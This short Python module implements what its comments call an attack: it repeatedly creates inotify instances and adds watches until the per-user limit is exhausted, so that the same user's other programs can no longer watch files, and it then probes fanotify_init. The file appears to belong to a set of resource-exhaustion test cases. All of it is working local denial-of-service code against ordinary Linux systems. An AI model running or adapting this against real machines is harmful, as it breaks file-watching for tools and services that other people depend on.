# attack: Takes all the instances and watches of inotify, which are counted for each user.
# hurts: Programs of the same user can watch no file any more.
# at most: 256 descriptors
# ends: returns or error
from _raw import call, took

MOST = 400


def attack(target):
    made, error, watches = [], "", 0
    while len(made) < MOST:
        instance, error = call("inotify_init1", 0)
        if error:
            break
        made.append(instance)
        for path in (".", "/dev/null", "/proc/self"):
            watches += not call("inotify_add_watch", instance, path, 0xFFF)[1]
    return [took(len(made)), error, watches, call("fanotify_init", 0, 0)]
